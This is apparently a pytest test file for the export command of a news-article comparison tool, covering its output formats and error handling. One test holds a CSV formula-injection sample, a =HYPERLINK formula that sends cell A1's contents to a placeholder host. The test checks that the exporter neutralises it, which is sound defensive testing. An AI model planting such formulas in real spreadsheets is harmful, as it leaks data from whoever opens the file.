import json
import os
import subprocess
import sys

from ..conftest import ROOT, SAMPLE


def parallax(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "tui", *args], capture_output=True, text=True, cwd=cwd)


def test_export_json_follows_the_schema(tmp_path):
    run = parallax("export", str(SAMPLE), "--format", "json")
    assert run.returncode == 0, run.stderr
    doc = json.loads(run.stdout)
    assert doc["schema"] == "parallax.export/2"
    assert set(doc) >= {"schema", "generator", "articles", "facts", "rows", "spans", "entities", "divergences"}
    assert "links" not in doc
    article = doc["articles"][0]
    assert set(article) >= {"id", "path", "title", "source", "date", "paragraphs"}
    for p in article["paragraphs"]:
        assert p["kind"] in {"title", "heading", "body", "boilerplate"}
        assert all(0 <= a < b <= len(p["text"]) for a, b in p["sentences"])
    assert [p["index"] for p in article["paragraphs"]] == list(range(len(article["paragraphs"])))


def test_export_links_are_every_link_of_the_comparison(sample_comparison):
    from tui.core.export import to_json

    doc = json.loads(to_json(sample_comparison, links=True))
    assert doc["links"] and [(tuple(l["a"]), tuple(l["b"])) for l in doc["links"]] == [(l.a, l.b) for l in sample_comparison.links]


def test_export_into_a_pipe_closed_early_is_quiet():
    run = subprocess.run(f"{sys.executable} -m tui export {SAMPLE} | head -c 10", shell=True,
                         capture_output=True, text=True)
    assert run.stdout == '{\n"schema"' and run.stderr == ""


def test_export_without_path_uses_the_bundled_sample(tmp_path):
    run = parallax("export", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert len(json.loads(run.stdout)["articles"]) == 5


def test_export_markdown_to_file(tmp_path):
    out = tmp_path / "report.md"
    run = parallax("export", str(SAMPLE), "--format", "md", "-o", str(out))
    assert run.returncode == 0 and run.stdout == ""
    assert out.read_text(encoding="utf-8").startswith("# Parallax report: 5 articles")


def test_a_report_on_one_article_says_one_article(tmp_path):
    (tmp_path / "only.txt").write_text("A ferry ran aground\n\nThe ferry ran aground off Kelso on Monday.\n")
    for form, head in (("md", "# Parallax report: 1 article\n"), ("html", "<title>Parallax report: 1 article</title>")):
        run = parallax("export", str(tmp_path / "only.txt"), "--format", form, "-o", str(tmp_path / f"r.{form}"))
        assert run.returncode == 0 and head in (tmp_path / f"r.{form}").read_text(encoding="utf-8")


def test_unwritable_output_is_one_line_and_keeps_old_file(tmp_path):
    run = parallax("export", str(SAMPLE), "-o", str(tmp_path / "missing-dir" / "out.json"))
    assert run.returncode == 1
    assert run.stderr.count("\n") == 1 and "cannot write" in run.stderr and "Traceback" not in run.stderr


def test_nothing_to_open_exits_2_with_one_line_per_problem(tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    run = parallax("export", str(tmp_path / "nope"), str(tmp_path / "empty.txt"))
    assert run.returncode == 2
    lines = run.stderr.splitlines()
    assert lines == [f"parallax: {tmp_path / 'nope'}: no such file or folder", f"parallax: {tmp_path / 'empty.txt'}: empty file"]


def test_a_bad_file_among_good_ones_is_a_warning(tmp_path):
    (tmp_path / "bin.txt").write_bytes(b"\x00\x01\x02\x03")
    (tmp_path / "ok.txt").write_text("A good article about the harbour strike.", encoding="utf-8")
    run = parallax("export", str(tmp_path))
    assert run.returncode == 0
    assert run.stderr.startswith(f"parallax: warning: {tmp_path / 'bin.txt'}: binary")
    assert [a["id"] for a in json.loads(run.stdout)["articles"]] == ["ok"]


def test_sample_corpus_in_the_repo_is_the_shared_one_byte_for_byte():
    shared = ROOT.parent / "shared" / "sample_corpus"
    if shared.exists():
        for f in shared.iterdir():
            assert (SAMPLE / f.name).read_bytes() == f.read_bytes()
    assert len(list(SAMPLE.glob("*.txt"))) == 5


def test_export_is_the_same_whatever_the_hash_seed():
    import os

    outputs = set()
    for seed in ("1", "2", "3"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        run = subprocess.run([sys.executable, "-m", "tui", "export", str(SAMPLE)], capture_output=True, text=True, env=env)
        outputs.add(run.stdout)
    assert len(outputs) == 1


def test_output_to_a_device_writes_to_it_and_never_replaces_it(tmp_path):
    import os
    import stat

    fifo, received = tmp_path / "pipe", tmp_path / "received.json"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["sh", "-c", f"cat '{fifo}' > '{received}'"])
    run = parallax("export", str(SAMPLE), "-o", str(fifo))
    reader.wait(timeout=30)
    assert run.returncode == 0 and json.loads(received.read_text())["schema"] == "parallax.export/2"
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_the_reader_without_a_terminal_says_so_and_exits_2():
    run = subprocess.run([sys.executable, "-m", "tui", str(SAMPLE)], capture_output=True, text=True,
                         stdin=subprocess.DEVNULL, timeout=30)
    assert run.returncode == 2
    assert run.stderr == "parallax needs a terminal; use `parallax export` for scripts\n"


def test_csv_cells_never_open_a_spreadsheet_formula():
    from tui.core.compare import compare
    from tui.core.export import csv_chunks

    from .corpus import articles_from

    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click") the council met on the budget.'
    text = "".join(csv_chunks(compare(articles_from(formula, formula))))
    assert "'=HYPERLINK" in text and ',"=' not in text and "\n=" not in text


def test_a_skipped_file_is_said_again_when_the_analysis_comes_from_the_cache(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name in ("a.txt", "b.txt"):
        (corpus / name).write_text("The council approved the harbour budget on Monday.\n")
    (corpus / "menu.html").write_text("<html><body><nav><a href='/'>Home</a></nav></body></html>")
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache"), "XDG_STATE_HOME": str(tmp_path / "state"),
           "XDG_CONFIG_HOME": str(tmp_path / "config")}
    runs = [subprocess.run([sys.executable, "-m", "tui", "export", str(corpus)], capture_output=True, text=True, env=env)
            for _ in range(2)]
    for run in runs:
        assert run.returncode == 0 and "menu.html: no article text found in this web page" in run.stderr
